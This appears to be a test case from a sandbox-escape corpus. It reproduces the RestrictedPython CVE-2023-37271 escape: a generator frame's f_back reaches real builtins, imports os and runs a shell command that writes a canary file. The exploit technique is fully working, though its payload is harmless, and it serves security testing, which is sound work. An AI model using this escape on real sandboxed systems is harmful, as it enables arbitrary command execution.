# source: RestrictedPython CVE-2023-37271
# effect: process

walker = (walker.gi_frame.f_back for _ in [1])
frame = [*walker][0]
frame.f_builtins["__import__"]("os").system("echo frames/generator_expression_frame > /tmp/canary/process")
